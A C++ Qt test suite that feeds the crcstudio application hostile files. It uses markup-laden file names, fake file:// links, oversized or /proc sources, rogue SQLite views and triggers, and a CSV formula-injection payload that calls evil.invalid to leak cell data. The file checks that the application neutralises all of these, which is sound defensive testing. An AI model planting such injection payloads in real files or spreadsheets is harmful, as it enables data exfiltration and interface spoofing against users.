// crcstudio handed files a stranger made, driven as a user drives it: names, paths and messages
// holding markup are shown as text in every dialog, label and tool tip; pictures, sources and
// stores are read only when they are what they claim, and never without bound; the team's
// client can neither flood the studio nor hold the store; a CSV cell is never a formula.

#include "defects/defectstore.h"
#include "defects/storeconnection.h"
#include "host/defectsdock.h"
#include "host/studiomainwindow.h"
#include "host/submitcommand.h"
#include "tests/studio/studiofixture.h"
#include "tests/testkit.h"

#include <QApplication>
#include <QDialogButtonBox>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLabel>
#include <QMenu>
#include <QPointer>
#include <QProcess>
#include <QPushButton>
#include <QSqlDatabase>
#include <QSqlError>
#include <QSqlQuery>
#include <QStandardPaths>
#include <QTabBar>
#include <QTabWidget>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>
#include <QTextDocumentFragment>
#include <QTimer>
#include <QToolTip>
#include <QTreeView>
#include <atomic>
#include <fcntl.h>
#include <functional>
#include <iostream>
#include <sys/resource.h>
#include <sys/stat.h>
#include <thread>
#include <unistd.h>

#if defined(__SANITIZE_ADDRESS__)
#define CRC_ADDRESS_SANITIZER 1
#elif defined(__has_feature)
#if __has_feature(address_sanitizer)
#define CRC_ADDRESS_SANITIZER 1
#endif
#endif

namespace {

using namespace testkit;

// A FIFO that nobody writes to: whoever opens it for reading waits for ever. A thread watches it
// for as long as the trap lives; each time someone has it open for reading, the thread opens it
// for writing and closes it again, so that the reader goes on (reading nothing), and counts it.
// Nothing the studio does with the files of these tests may open it at all.
class FifoTrap
{
public:
    explicit FifoTrap(const QString& path) : m_path(QFile::encodeName(path))
    {
        m_made = ::mkfifo(m_path.constData(), 0600) == 0;
        if (m_made)
            m_watcher = std::thread([this] { watch(); });
    }
    ~FifoTrap()
    {
        m_stop = true;
        if (m_watcher.joinable())
            m_watcher.join();
    }
    bool isMade() const { return m_made; }
    // How often the FIFO was found opened for reading.
    int opened() const { return m_opened; }

private:
    void watch()
    {
        while (!m_stop) {
            // Opening for writing without waiting succeeds only while a reader has it open.
            const int writer = ::open(m_path.constData(), O_WRONLY | O_NONBLOCK | O_CLOEXEC);
            if (writer >= 0) {
                ++m_opened;
                ::close(writer);
            }
            std::this_thread::sleep_for(std::chrono::milliseconds(10));
        }
    }

    QByteArray m_path;
    bool m_made = false;
    std::atomic<bool> m_stop{false};
    std::atomic<int> m_opened{0};
    std::thread m_watcher;
};

// The text a user reads where Qt shows `text` in a label or tool tip that guesses its format.
QString shownText(const QString& text)
{
    return Qt::mightBeRichText(text) ? QTextDocumentFragment::fromHtml(text).toPlainText() : text;
}

// A result file with one failed item named `item` (markup allowed, escaped here), under a file
// node, and whatever `more` adds to its report.
QByteArray reportWith(const QString& item, const QByteArray& more = QByteArray())
{
    return "<XROD><DOCUMENT tag='doc' title='hostile'><XROD:NODE name='src/main.c' type='File' "
           "state='ko'><SECTION tag='f1'><TITLE>src/main.c</TITLE><XROD:NODE name='" +
           item.toHtmlEscaped().toUtf8() +
           "' type='Rule' state='ko'><PARAGRAPH>failed</PARAGRAPH>" + more +
           "</XROD:NODE></SECTION></XROD:NODE></DOCUMENT></XROD>\n";
}

// A source link of a report to `target`, labelled `label`.
QByteArray sourceLink(const QString& target, const QString& label)
{
    return "<PARAGRAPH><LINK target='" + target.toHtmlEscaped().toUtf8() + "'>" +
           label.toHtmlEscaped().toUtf8() + "</LINK></PARAGRAPH>";
}

// Runs `statements` on the SQLite database at `path`, made when missing.
bool runSql(const QString& path, const QStringList& statements)
{
    bool done = true;
    {
        QSqlDatabase database =
            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("test"));
        database.setDatabaseName(path);
        done = database.open();
        for (const QString& statement : statements) {
            QSqlQuery query(database);
            if (done && !query.exec(statement)) {
                qWarning() << statement << query.lastError().text();
                done = false;
            }
        }
        database.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("test"));
    return done;
}

// The rows of `table` in the SQLite database at `path`; -1 when it cannot be read.
int countRows(const QString& path, const QString& table)
{
    int rows = -1;
    {
        QSqlDatabase database =
            QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"), QStringLiteral("count"));
        database.setDatabaseName(path);
        database.setConnectOptions(QStringLiteral("QSQLITE_OPEN_READONLY"));
        QSqlQuery query(database);
        if (database.open() && query.exec(QStringLiteral("SELECT count(*) FROM ") + table) &&
            query.next())
            rows = query.value(0).toInt();
        query.finish();
        database.close();
    }
    QSqlDatabase::removeDatabase(QStringLiteral("count"));
    return rows;
}

// A message box as it was shown.
struct ShownBox
{
    bool shown = false;
    Qt::TextFormat format = Qt::AutoText; // the box's, and that of the label showing the text
    QString text;
};

// The source links of FOLDER/links.crc followed as a user clicks them: the source shown after
// each, then what the output window said. Run in a child under a memory limit.
int followSourceLinks(const QString& folder)
{
    StudioFixture studio;
    if (!studio.start(folder + QStringLiteral("/settings.xml")) ||
        !studio.open({folder + QStringLiteral("/links.crc")}))
        return 3;
    for (const char* label : {"src/main.c line 12", "big.c line 1"}) {
        if (!studio.showTab(studio.tabNamed(QStringLiteral("links.crc"))) ||
            !studio.clickLink(QLatin1String(label)))
            return 4;
        const QString source = studio.sourcePath();
        std::cout << "source=" << (source.isEmpty() ? "none" : source.toStdString()) << "\n";
    }
    std::cout << studio.output().toStdString() << "\n";
    return 0;
}

// The team's client of a test: whether the store takes a write while the defect is handed on.
int tryStoreWrite(const QString& store)
{
    QSqlDatabase database = QSqlDatabase::addDatabase(QStringLiteral("QSQLITE"));
    database.setDatabaseName(store);
    database.setConnectOptions(QStringLiteral("QSQLITE_BUSY_TIMEOUT=0"));
    if (!database.open()) {
        std::cerr << "cannot open the store\n";
        return 1;
    }
    QSqlQuery begin(database);
    if (!begin.exec(QStringLiteral("BEGIN IMMEDIATE"))) {
        std::cerr << "the store is held: " << begin.lastError().text().toStdString() << "\n";
        return 1;
    }
    QSqlQuery(QStringLiteral("ROLLBACK"), database);
    std::cout << "https://tracker.example/free\n";
    return 0;
}

} // namespace

class TestStudioHostile : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    std::unique_ptr<FifoTrap> m_fifo; // destroyed after the studio, which may still look
    StudioFixture m_studio;
    QString m_store;
    int m_fifoMark = 0; // the FIFO's openings before the test

    QString path(const QString& name) const { return m_dir.filePath(name); }

    // File > Open, the file chosen in its dialog; whether a tab shows it.
    bool open(const QString& file)
    {
        return m_studio.open({file}) && m_studio.shownFiles().contains(file);
    }

    // Tools > Defect Tracker..., the client and time limit typed in, OK.
    void configure(const QString& command, int seconds)
    {
        QVERIFY(m_studio.configureTracker(command, seconds, false));
    }

    void useStore(const QString& store)
    {
        m_store = store;
        m_studio.useDefectStore(store);
    }

    // The tool tip of the dock's cell of `row`, `column`, as the mouse resting on it shows it.
    QString cellTip(int row, int column)
    {
        QTableView* table = m_studio.defectsTable();
        const QModelIndex cell = table->model()->index(row, column);
        return hover(table->viewport(), table->visualRect(cell).center());
    }

    // Runs `act` with the real dialogs in force: the first message box it shows is read and
    // answered with `button`; the scripted dialogs are back afterwards.
    ShownBox withRealMessageBox(const std::function<void()>& act,
                                QMessageBox::StandardButton button)
    {
        ShownBox seen;
        m_studio.useRealDialogs();
        QTimer poll;
        poll.setInterval(5);
        connect(&poll, &QTimer::timeout, this, [&] {
            auto* box = qobject_cast<QMessageBox*>(QApplication::activeModalWidget());
            if (!box || seen.shown)
                return;
            seen.shown = true;
            const auto* label = box->findChild<QLabel*>(QStringLiteral("qt_msgbox_label"));
            seen.format = label && label->textFormat() == box->textFormat() ? box->textFormat()
                                                                            : Qt::AutoText;
            seen.text = label ? label->text() : QString();
            QTest::mouseClick(box->button(button), Qt::LeftButton);
        });
        poll.start();
        act();
        poll.stop();
        m_studio.useScriptedDialogs();
        return seen;
    }

    // Runs `act` once the progress display shows the team's client running.
    bool whileHandingOn(const std::function<void()>& operation, const std::function<void()>& act)
    {
        bool acted = false;
        QTimer poll;
        poll.setInterval(5);
        connect(&poll, &QTimer::timeout, this, [&] {
            if (acted || !m_studio.progress()->isVisible())
                return;
            acted = true;
            poll.stop();
            act();
        });
        poll.start();
        operation();
        return acted;
    }

    static const QStringList& noGoto()
    {
        static const QStringList names{QStringLiteral("rules-core.crc"),
                                       QStringLiteral("src/main.c"), QStringLiteral("no-goto")};
        return names;
    }

private Q_SLOTS:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        QVERIFY(m_dir.isValid());
        // Names of files cannot hold a slash: their pictures are looked for in the current
        // folder, where the trap is.
        QVERIFY(QDir::setCurrent(m_dir.path()));
        m_fifo = std::make_unique<FifoTrap>(path(QStringLiteral("FIFO")));
        QVERIFY(m_fifo->isMade());
        QVERIFY(m_studio.start(path("settings.xml")));
    }

    void init()
    {
        useStore(path(QStringLiteral("%1.sqlite").arg(QTest::currentTestFunction())));
        m_studio.newOutput();
        m_fifoMark = m_fifo->opened();
        m_studio.dialogs().asked.clear();
        m_studio.dialogs().buttons.clear();
        m_studio.dialogs().files.clear();
    }

    void cleanup()
    {
        QToolTip::hideText();
        QVERIFY(m_studio.closeAllTabs());
        // Whatever a test did, nothing may have opened the FIFO.
        QCOMPARE(m_fifo->opened() - m_fifoMark, 0);
    }

    // File names and paths with markup in them are plain text in the labels that show them:
    // the progress display while the file is read, the Defects dock's message and the Defect
    // Tracker dialog; no picture they name is ever loaded (see cleanup()).
    void namesInLabelsShowAsText()
    {
        const QString report = path(QStringLiteral("<img src=FIFO>.crc"));
        QVERIFY(writeFile(report, reportWith(QStringLiteral("no-goto"))));
        QVERIFY(open(report));
        QCOMPARE(m_studio.progressLabel()->textFormat(), Qt::PlainText);

        const QString store = path(QStringLiteral("<img src=FIFO>.sqlite"));
        useStore(store);
        QVERIFY(m_studio.defectsTable());
        QLabel* message = m_studio.defectsMessage();
        QCOMPARE(message->textFormat(), Qt::PlainText);
        QCOMPARE(message->text(), QStringLiteral("No defects filed in %1").arg(store));
        QPointer<QDialog> dialog = m_studio.openTrackerDialog();
        QVERIFY(dialog);
        QLabel* where = nullptr;
        for (QLabel* label : dialog->findChildren<QLabel*>()) {
            if (label->text().startsWith(QLatin1String("Defects are kept in")))
                where = label;
        }
        QVERIFY(where);
        QCOMPARE(where->textFormat(), Qt::PlainText);
        QCOMPARE(where->text(), QStringLiteral("Defects are kept in %1.").arg(store));
        QTest::mouseClick(dialog->findChild<QDialogButtonBox*>()->button(QDialogButtonBox::Cancel),
                          Qt::LeftButton);
        QTRY_VERIFY(dialog.isNull());
    }

    // Paths with markup in them show as they are in tool tips: a source tab's, Open Recent's and
    // a result file tab's.
    void pathsInToolTipsShowAsText()
    {
        const QString source = path(QStringLiteral("<img src=FIFO>.c"));
        QVERIFY(writeFile(source, "int main()\n{\n}\n"));
        const QString report = path(QStringLiteral("<img src=FIFO>-tips.crc"));
        QVERIFY(writeFile(report, reportWith(QStringLiteral("no-goto"),
                                             sourceLink(source + QStringLiteral(" line 2"),
                                                        QStringLiteral("main")))));
        QVERIFY(open(report));
        const int reportTab = m_studio.tabs()->currentIndex();
        const QString viewerTitle = m_studio.tabs()->currentWidget()->windowTitle();
        QVERIFY(m_studio.clickLink(QStringLiteral("main")));
        QVERIFY2(m_studio.sourceView(), qPrintable(m_studio.output()));
        QTabBar* tabs = m_studio.tabs()->tabBar();
        const int sourceTab = m_studio.tabs()->currentIndex();
        QCOMPARE(shownText(hover(tabs, tabs->tabRect(sourceTab).center())), source);

        QMenu* recent = m_studio.openMenu({QStringLiteral("File"), QStringLiteral("Open Recent")});
        QVERIFY(recent);
        QAction* entry = recent->actions().value(0);
        QVERIFY(entry && entry->statusTip() == report);
        QCOMPARE(shownText(hover(recent, recent->actionGeometry(entry).center())), report);
        m_studio.closeMenus();

        QCOMPARE(shownText(hover(tabs, tabs->tabRect(reportTab).center())),
                 viewerTitle + QLatin1Char('\n') + report);
    }

    // A link target with markup, from a result file, a SARIF log's uri and a JUnit report's
    // file, reaches "cannot be found. Locate it?" as text: the real message box takes it as plain
    // text, so neither its fake link nor its picture is there. A file that can no longer be read
    // is named in the same way when it is reloaded.
    void messagesShowAsText()
    {
        const QString target = QStringLiteral("nowhere/<a href=\"file:///tmp/x/evil.desktop\">"
                                              "src/main.c</a><img src=\"FIFO\">");
        const QString crc = path(QStringLiteral("locate.crc"));
        QVERIFY(writeFile(crc, reportWith(QStringLiteral("no-goto"),
                                          sourceLink(target + QStringLiteral(" line 1"),
                                                     QStringLiteral("src/main.c line 1")))));
        const QJsonObject location{
            {QStringLiteral("physicalLocation"),
             QJsonObject{
                 {QStringLiteral("artifactLocation"), QJsonObject{{QStringLiteral("uri"), target}}},
                 {QStringLiteral("region"), QJsonObject{{QStringLiteral("startLine"), 1}}}}}};
        const QJsonObject log{
            {QStringLiteral("version"), QStringLiteral("2.1.0")},
            {QStringLiteral("runs"),
             QJsonArray{QJsonObject{
                 {QStringLiteral("tool"),
                  QJsonObject{{QStringLiteral("driver"),
                               QJsonObject{{QStringLiteral("name"), QStringLiteral("lint")}}}}},
                 {QStringLiteral("results"),
                  QJsonArray{
                      QJsonObject{{QStringLiteral("ruleId"), QStringLiteral("R1")},
                                  {QStringLiteral("message"),
                                   QJsonObject{{QStringLiteral("text"), QStringLiteral("bad")}}},
                                  {QStringLiteral("locations"), QJsonArray{location}}}}}}}}};
        const QString sarif = path(QStringLiteral("locate.sarif"));
        QVERIFY(writeFile(sarif, QJsonDocument(log).toJson()));
        const QString junit = path(QStringLiteral("locate.xml"));
        QVERIFY(writeFile(junit, "<testsuite name='s' tests='1' failures='1'><testcase name='t' "
                                 "classname='c' line='1' file='" +
                                     target.toHtmlEscaped().toUtf8() +
                                     "'><failure message='boom'>x</failure></testcase>"
                                     "</testsuite>\n"));
        for (const QString& file : {crc, sarif, junit}) {
            QVERIFY2(open(file), qPrintable(file));
            const ShownBox box = withRealMessageBox(
                [&] {
                    // The result file labels its link; a converted one shows the path.
                    QVERIFY(file == crc ? m_studio.clickLink(QStringLiteral("src/main.c line 1"))
                                        : m_studio.clickLink(QStringLiteral("evil.desktop"),
                                                             Qt::MatchContains));
                },
                QMessageBox::No);
            QVERIFY2(box.shown, qPrintable(file));
            QCOMPARE(box.format, Qt::PlainText);
            QVERIFY2(box.text.contains(QLatin1String("nowhere/<a href=\"file:")) &&
                         box.text.contains(QLatin1String("src/main.c</a><img src=\"FIFO\">")) &&
                         box.text.contains(QLatin1String("cannot be found")),
                     qPrintable(box.text));
            QVERIFY(!m_studio.sourceView());
            QVERIFY(m_studio.closeAllTabs());
        }

        const QString broken = path(QStringLiteral("<img src=FIFO>-reloaded.crc"));
        QVERIFY(writeFile(broken, reportWith(QStringLiteral("no-goto"))));
        QVERIFY(open(broken));
        QVERIFY(writeFile(broken, "<XROD><DOCUMENT tag='b'>\n<PARAGRAPH>\n</XROD>"));
        const ShownBox box = withRealMessageBox(
            [&] {
                QVERIFY(m_studio.trigger({QStringLiteral("File"), QStringLiteral("Reload")}));
            },
            QMessageBox::Ok);
        QVERIFY(box.shown);
        QCOMPARE(box.format, Qt::PlainText);
        QVERIFY2(box.text.contains(broken + QStringLiteral(":3:")), qPrintable(box.text));
    }

    // A defect filed on an item whose name holds markup, from a file whose name does: the
    // Defects dock's tool tips on its headline (the description) and on its file show them as
    // they are.
    void defectToolTipsShowAsText()
    {
        const QString item = QStringLiteral("<img src=FIFO>");
        QDir().mkpath(path(QStringLiteral("dock")));
        const QString report = path(QStringLiteral("dock/<img src=FIFO>.crc"));
        QVERIFY(writeFile(report, reportWith(item)));
        QVERIFY(open(report));
        QVERIFY(m_studio.fileDefect(
            {QStringLiteral("<img src=FIFO>.crc"), QStringLiteral("src/main.c"), item}));
        QList<Defect> defects;
        QVERIFY(DefectStore(m_store).read(&defects));
        QCOMPARE(defects.size(), 1);
        QVERIFY(defects[0].description.contains(item));
        QCOMPARE(shownText(cellTip(0, DefectsDock::HeadlineColumn)), defects[0].description);
        QCOMPARE(shownText(cellTip(0, DefectsDock::FileColumn)), report);
    }

    // Pictures the document view shows are read only from regular files, as the HTML export
    // copies them: a FIFO named by a relative or an absolute path is a missing picture, a real
    // picture still shows.
    void picturesOnlyFromRegularFiles()
    {
        QImage red(40, 30, QImage::Format_RGB32);
        red.fill(Qt::red);
        QVERIFY(red.save(path(QStringLiteral("red.png"))));
        const QString report = path(QStringLiteral("pictures.crc"));
        QVERIFY(writeFile(report, reportWith(QStringLiteral("no-goto"),
                                             "<PARAGRAPH><IMAGE src='FIFO'/></PARAGRAPH>"
                                             "<PARAGRAPH><IMAGE src='" +
                                                 path(QStringLiteral("FIFO")).toUtf8() +
                                                 "'/></PARAGRAPH><PARAGRAPH><IMAGE "
                                                 "src='red.png'/></PARAGRAPH>")));
        QVERIFY(open(report));
        const QImage drawn = m_studio.documentView()->viewport()->grab().toImage();
        int redPixels = 0;
        for (int y = 0; y < drawn.height(); ++y) {
            for (int x = 0; x < drawn.width(); ++x)
                redPixels += drawn.pixelColor(x, y) == QColor(Qt::red) ? 1 : 0;
        }
        QVERIFY2(redPixels >= 40 * 30 / 2, qPrintable(QString::number(redPixels)));
    }

    // A source link to /proc/self/pagemap (labelled "src/main.c line 12"), which says it is empty
    // and goes on for hundreds of gigabytes, and one to a source of 65 MiB: neither is shown,
    // each is named with the limit, and the studio reads no more than that (a child studio
    // under a memory limit clicks them).
    void sourceLinksReadBounded()
    {
        const QString folder = path(QStringLiteral("sources"));
        QVERIFY(QDir().mkpath(folder));
        QFile big(folder + QStringLiteral("/big.c"));
        QVERIFY(big.open(QIODevice::WriteOnly) && big.resize(65 * 1024 * 1024));
        big.close();
        QVERIFY(writeFile(folder + QStringLiteral("/links.crc"),
                          reportWith(QStringLiteral("no-goto"),
                                     sourceLink(QStringLiteral("/proc/self/pagemap line 12"),
                                                QStringLiteral("src/main.c line 12")) +
                                         sourceLink(QStringLiteral("big.c line 1"),
                                                    QStringLiteral("big.c line 1")))));
        // Reading the whole of pagemap would end in an allocation failure there, not in the
        // machine's memory running out. The address sanitizer reserves far more address space
        // than it uses: under it the bound is its own limit on resident memory.
        QProcess child;
#ifdef CRC_ADDRESS_SANITIZER
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        environment.insert(QStringLiteral("ASAN_OPTIONS"),
                           environment.value(QStringLiteral("ASAN_OPTIONS")) +
                               QStringLiteral(":hard_rss_limit_mb=2048"));
        child.setProcessEnvironment(environment);
#else
        child.setChildProcessModifier([] {
            const rlimit limit{rlim_t(2) << 30, rlim_t(2) << 30};
            ::setrlimit(RLIMIT_AS, &limit);
        });
#endif
        child.start(QCoreApplication::applicationFilePath(),
                    {QStringLiteral("--follow-source-links"), folder});
        QVERIFY(child.waitForFinished(120000));
        const QString out = QString::fromLocal8Bit(child.readAllStandardOutput());
        QVERIFY2(child.exitStatus() == QProcess::NormalExit && child.exitCode() == 0,
                 qPrintable(out + QString::fromLocal8Bit(child.readAllStandardError())));
        QCOMPARE(out.count(QLatin1String("source=none")), 2);
        for (const QString& file :
             {QStringLiteral("/proc/self/pagemap"), folder + QStringLiteral("/big.c")})
            QVERIFY2(out.contains(QStringLiteral("Cannot open the source file %1: it holds more "
                                                 "than 64 MiB")
                                      .arg(file)),
                     qPrintable(out));
    }

    // The team's client: what it prints is kept up to 1 MiB and said to be cut; the store is free
    // for others while it runs; the window goes on, and the progress display's Cancel stops it,
    // filing nothing.
    void teamClientIsBoundedAndCancellable()
    {
        QVERIFY(open(example("rules-core.crc")));
        configure(QStringLiteral("/bin/sh -c 'head -c 3145728 /dev/zero | tr \"\\000\" x'"), 60);
        QVERIFY(m_studio.fileDefect(noGoto()));
        QList<Defect> defects;
        QVERIFY(DefectStore(m_store).read(&defects));
        QCOMPARE(defects.size(), 1);
        const QString kept = defects[0].externalReference;
        QVERIFY2(kept.size() <= SubmitCommand::maxKeptOutput + 40,
                 qPrintable(QString::number(kept.size())));
        QVERIFY(kept.startsWith(QLatin1String("xxxxxxxx")));
        QVERIFY2(kept.endsWith(QLatin1String("[cut after 1 MiB]")), qPrintable(kept.right(40)));

        configure(QCoreApplication::applicationFilePath() + QStringLiteral(" --try-store-write ") +
                      m_store,
                  60);
        m_studio.newOutput();
        QVERIFY(m_studio.fileDefect(noGoto()));
        QVERIFY(DefectStore(m_store).read(&defects));
        QCOMPARE(defects.size(), 2);
        QCOMPARE(defects[1].externalReference, QStringLiteral("https://tracker.example/free"));
        QCOMPARE(m_studio.newOutput(), QStringList{QStringLiteral("Submit Defect Report ...")});

        configure(QStringLiteral("sleep 30"), 20);
        QString label;
        QVERIFY(whileHandingOn([&] { QVERIFY(m_studio.fileDefect(noGoto())); },
                               [&] {
                                   label = m_studio.progressLabel()->text();
                                   QPushButton* cancel = m_studio.cancelButton();
                                   QTest::mouseClick(cancel, Qt::LeftButton, {},
                                                     cancel->rect().center());
                               }));
        QCOMPARE(label, QStringLiteral("Handing the defect to sleep"));
        QVERIFY(!m_studio.progress()->isVisible());
        QCOMPARE(m_studio.newOutput(),
                 QStringList({QStringLiteral("Submit Defect Report ..."),
                              QStringLiteral("The submit command sleep was cancelled"),
                              QStringLiteral("Stopped.")}));
        QVERIFY(DefectStore(m_store).read(&defects));
        QCOMPARE(defects.size(), 2);
    }

    // A cell that a spreadsheet would compute (=, +, -, @, a tab or a carriage return first)
    // begins with a single quote, in the dock's CSV export and in crcview defects alike.
    void csvCellsAreNeverFormulas()
    {
        const QString item = QStringLiteral("=HYPERLINK(\"https://evil.invalid/?leak=\"&A2,\"x\")");
        const QString report = path(QStringLiteral("formula.crc"));
        QVERIFY(writeFile(report, reportWith(item)));
        QVERIFY(open(report));
        configure(QStringLiteral("/bin/echo -2+3"), 60);
        QVERIFY(m_studio.fileDefect(
            {QStringLiteral("formula.crc"), QStringLiteral("src/main.c"), item}));
        const QString csv = path(QStringLiteral("formula.csv"));
        m_studio.dialogs().files.append({csv});
        QTableView* table = m_studio.defectsTable();
        QCOMPARE(table->model()->rowCount(), 1);
        QTest::mouseClick(m_studio.defectsButton(QStringLiteral("Export CSV...")), Qt::LeftButton);
        const QByteArray exported = readFile(csv);
        QVERIFY2(exported.contains(
                     ",\"'=HYPERLINK(\"\"https://evil.invalid/?leak=\"\"&A2,\"\"x\"\")\","),
                 exported.constData());
        QVERIFY2(exported.contains(",'-2+3,"), exported.constData());
        const CrcviewRun listed =
            runCrcview({QStringLiteral("defects"), QStringLiteral("--defects"), m_store}, 60000);
        QCOMPARE(listed.status, 0);
        QCOMPARE(listed.out.toUtf8(), exported);

        // Every beginning a spreadsheet computes, in every text column.
        const QString other = path(QStringLiteral("formulas.sqlite"));
        Defect defect;
        defect.headline = QStringLiteral("+1+1");
        defect.description = QStringLiteral("@SUM(A1:A9)");
        defect.itemPath = {QStringLiteral("\t=1")};
        defect.file = QStringLiteral("\r=2");
        defect.externalReference = QStringLiteral("-3");
        DefectStore store(other);
        QVERIFY2(store.file(defect), qPrintable(store.errorString()));
        const CrcviewRun all =
            runCrcview({QStringLiteral("defects"), QStringLiteral("--defects"), other}, 60000);
        QCOMPARE(all.status, 0);
        QVERIFY2(all.out.contains(QStringLiteral(",open,'+1+1,'@SUM(A1:A9),'\t=1,\"'\r=2\",")),
                 qPrintable(all.out));
        QVERIFY2(all.out.contains(QStringLiteral(",'-3,")), qPrintable(all.out));
    }

    // A defect store that is not exactly one of crcstudio's is refused, naming it, before
    // anything of it runs: a view that never ends (crcview defects and the dock), a trigger that
    // filing would fire, another program's database (left as it was). And no statement on a
    // store runs without bound.
    void foreignStoresAreRefused()
    {
        const QString viewStore = path(QStringLiteral("view.sqlite"));
        QVERIFY(DefectStore(viewStore).prepareForFiling());
        QVERIFY(runSql(
            viewStore,
            {QStringLiteral("DROP TABLE defects"),
             QStringLiteral("CREATE VIEW defects AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL "
                            "SELECT x + 1 FROM c) SELECT x AS id, 'open' AS state, 'h' AS "
                            "headline, 'd' AS description, '[]' AS item_path, NULL AS file, "
                            "'2024-01-01T00:00:00Z' AS filed, NULL AS external_reference FROM c "
                            "WHERE x = 0")}));
        const CrcviewRun listed =
            runCrcview({QStringLiteral("defects"), QStringLiteral("--defects"), viewStore}, 30000);
        QCOMPARE(listed.status, 2);
        QVERIFY2(listed.err.contains(viewStore) &&
                     listed.err.contains(QLatin1String("view defects")),
                 qPrintable(listed.err));
        useStore(viewStore);
        QVERIFY(m_studio.defectsTable());
        QLabel* message = m_studio.defectsMessage();
        QVERIFY(!message->isHidden());
        QVERIFY2(message->text().contains(viewStore) &&
                     message->text().contains(QLatin1String("view defects")),
                 qPrintable(message->text()));

        const QString triggerStore = path(QStringLiteral("trigger.sqlite"));
        QVERIFY(DefectStore(triggerStore).prepareForFiling());
        QVERIFY(runSql(triggerStore, {QStringLiteral("CREATE TRIGGER leak AFTER INSERT ON defects "
                                                     "BEGIN UPDATE defects SET headline = 'x'; "
                                                     "END")}));
        DefectStore triggered(triggerStore);
        QVERIFY(!triggered.prepareForFiling());
        QVERIFY2(triggered.errorString().contains(QLatin1String("trigger leak")),
                 qPrintable(triggered.errorString()));
        QVERIFY(open(example("rules-core.crc")));
        useStore(triggerStore);
        QVERIFY(m_studio.fileDefect(noGoto()));
        const QStringList said = m_studio.newOutput();
        QCOMPARE(said.size(), 3);
        QVERIFY2(said[1].contains(triggerStore) && said[1].contains(QLatin1String("trigger leak")),
                 qPrintable(said[1]));
        QCOMPARE(said[2], QStringLiteral("Stopped."));
        QCOMPARE(countRows(triggerStore, QStringLiteral("defects")), 0);

        const QString foreign = path(QStringLiteral("places.sqlite"));
        QVERIFY(
            runSql(foreign, {QStringLiteral("CREATE TABLE moz_places (id INTEGER, url TEXT)")}));
        useStore(foreign);
        QVERIFY(m_studio.fileDefect(noGoto()));
        QVERIFY2(m_studio.newOutput().value(1).contains(QLatin1String("table moz_places")),
                 qPrintable(m_studio.output()));
        QCOMPARE(countRows(foreign, QStringLiteral("sqlite_master")), 1);

        // A statement that would run for ever is stopped at the connection's time limit.
        StoreConnection bounded(path(QStringLiteral("empty.sqlite")), false, 200);
        QVERIFY(bounded.isOpen());
        QSqlQuery endless(bounded.database());
        QVERIFY(!endless.exec(QStringLiteral("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT "
                                             "x + 1 FROM c) SELECT count(*) FROM c")));
        QCOMPARE(StoreConnection::reason(endless.lastError()),
                 QStringLiteral("it took too long to answer and was stopped"));
    }

    void cleanupTestCase()
    {
        m_studio.quit();
        m_studio.useRealDialogs();
    }
};

int main(int argc, char** argv)
{
    if (argc == 3 && qstrcmp(argv[1], "--try-store-write") == 0) {
        QCoreApplication app(argc, argv);
        return tryStoreWrite(QString::fromLocal8Bit(argv[2]));
    }
    QApplication app(argc, argv);
    if (argc == 3 && qstrcmp(argv[1], "--follow-source-links") == 0)
        return followSourceLinks(QString::fromLocal8Bit(argv[2]));
    TestStudioHostile test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_studiohostile.moc"
